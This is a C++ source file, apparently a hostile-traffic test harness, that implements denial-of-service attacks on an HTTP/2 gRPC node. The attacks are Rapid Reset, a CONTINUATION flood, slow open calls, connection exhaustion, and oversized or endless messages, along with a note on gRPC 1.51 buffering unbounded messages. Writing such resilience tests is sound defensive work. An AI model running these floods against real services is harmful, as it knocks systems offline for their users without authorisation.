#include "tests/hostile/attacks.h"

#include <chrono>
#include <memory>
#include <thread>

namespace candour::hostile {
namespace {

constexpr size_t kConnectionsMax = 1500;
constexpr uint32_t kStreamsMax = 1'000'000;

// Opens connections one after the other and lets `step` send on each until it is hung up on.
// `step(wire, stream)` is given odd stream numbers and gives back how many bytes went out, 0 to
// hang up.
template <class Step>
Effort OnConnections(const Target& target, const std::atomic<bool>& stop, Step step) {
  Effort effort;
  while (!stop) {
    const auto wire = Wire::Open(target.address, target.key);
    if (!wire) continue;
    ++effort.connections;
    for (uint32_t stream = 1; !stop && stream < kStreamsMax; stream += 2) {
      const size_t sent = step(*wire, stream);
      if (sent == 0 || !wire->Drain()) break;
      ++effort.frames;
      effort.bytes += sent;
    }
  }
  return effort;
}

size_t SentOf(Wire& wire, const std::string& frames) {
  return wire.Send(frames) ? frames.size() : 0;
}

// Whole calls of FetchLeaves, one after the other.
Effort Calls(const Target& target, const std::atomic<bool>& stop, std::string_view message,
             uint32_t claimed) {
  const std::string content = GrpcMessage(message, claimed);
  return OnConnections(target, stop, [&](Wire& wire, uint32_t stream) -> size_t {
    const bool polite = target.manners == Manners::kKeepsToHttp2;
    if (polite && !wire.AwaitStream(stream)) return 0;
    const size_t head =
        SentOf(wire, Frame(FrameType::kHeaders, kEndHeaders, stream, CallHeaders("FetchLeaves")));
    if (head == 0 || (polite && !wire.AwaitWindow(stream, content.size()))) return head;
    return SentOf(wire, Frame(FrameType::kData, kEndStream, stream, content));
  });
}

Effort Malformed(const Target& target, const std::atomic<bool>& stop) {
  const std::string rubbish(100, '\xff');
  return Calls(target, stop, rubbish, static_cast<uint32_t>(rubbish.size()));
}

// A well-formed request for something absent, with a network id of the wrong length: it is read,
// and refused by the node's own checks.
Effort Unreadable(const Target& target, const std::atomic<bool>& stop) {
  return Calls(target, stop,
               "\x0a\x03"
               "abc",
               5);
}

Effort Oversized(const Target& target, const std::atomic<bool>& stop) {
  return Calls(target, stop, std::string(16'000, 'x'), 1'000'000'000);
}

// gRPC 1.51 gathers a message of any claimed length before it looks at its limit: 328 MB in three
// seconds on its own port. nginx cuts it off at 5 MiB.
Effort Endless(const Target& target, const std::atomic<bool>& stop) {
  const std::string part(16'000, 'x');
  return OnConnections(target, stop, [&](Wire& wire, uint32_t stream) -> size_t {
    const bool polite = target.manners == Manners::kKeepsToHttp2;
    if (stream == 1) {
      if (polite && !wire.AwaitStream(1)) return 0;
      return SentOf(wire, Frame(FrameType::kHeaders, kEndHeaders, 1, CallHeaders("PushBodies")) +
                              Frame(FrameType::kData, 0, 1, GrpcMessage("", 0xffffffff)));
    }
    if (polite && !wire.AwaitWindow(1, part.size())) return 0;
    return SentOf(wire, Frame(FrameType::kData, 0, 1, part));
  });
}

// Many calls that begin and never go on.
Effort Slow(const Target& target, const std::atomic<bool>& stop) {
  Effort effort;
  std::vector<std::unique_ptr<Wire>> open;
  while (!stop) {
    if (open.size() < 64) {
      if (auto wire = Wire::Open(target.address, target.key)) {
        for (uint32_t stream = 1; stream < 40; stream += 2) {
          wire->Send(Frame(FrameType::kHeaders, kEndHeaders, stream, CallHeaders("FetchLeaves")));
          ++effort.frames;
        }
        ++effort.connections;
        open.push_back(std::move(wire));
        continue;
      }
    }
    std::erase_if(open, [](const auto& wire) { return !wire->Drain(); });
    std::this_thread::yield();
  }
  return effort;
}

Effort RapidReset(const Target& target, const std::atomic<bool>& stop) {
  return OnConnections(target, stop, [&](Wire& wire, uint32_t stream) {
    return SentOf(wire,
                  Frame(FrameType::kHeaders, kEndHeaders, stream, CallHeaders("FetchLeaves")) +
                      Frame(FrameType::kReset, 0, stream, std::string("\0\0\0\x08", 4)));
  });
}

Effort ContinuationFlood(const Target& target, const std::atomic<bool>& stop) {
  const std::string block(8'000, '\0');
  return OnConnections(target, stop, [&](Wire& wire, uint32_t stream) {
    if (stream > 1) return SentOf(wire, Frame(FrameType::kContinuation, 0, 1, block));
    return SentOf(wire, Frame(FrameType::kHeaders, 0, 1, CallHeaders("FetchLeaves")));
  });
}

// As many connections as there are descriptors; most do not even begin the handshake.
Effort ConnectionExhaustion(const Target& target, const std::atomic<bool>& stop) {
  Effort effort;
  std::vector<std::unique_ptr<Wire>> open;
  while (!stop) {
    if (open.size() >= kConnectionsMax) open.erase(open.begin(), open.begin() + 100);
    auto wire = open.size() % 10 == 0 ? Wire::Open(target.address, target.key)
                                      : Wire::OpenSilent(target.address);
    if (!wire) continue;
    ++effort.connections;
    open.push_back(std::move(wire));
  }
  return effort;
}

}  // namespace

const std::vector<Attack>& AllAttacks() {
  static const std::vector<Attack> attacks = {
      {"malformed", false, Malformed},
      {"unreadable", false, Unreadable},
      {"oversized", false, Oversized},
      {"endless", false, Endless},
      {"slow", false, Slow},
      {"rapid-reset", true, RapidReset},
      {"continuation-flood", true, ContinuationFlood},
      {"connection-exhaustion", true, ConnectionExhaustion},
  };
  return attacks;
}

}  // namespace candour::hostile
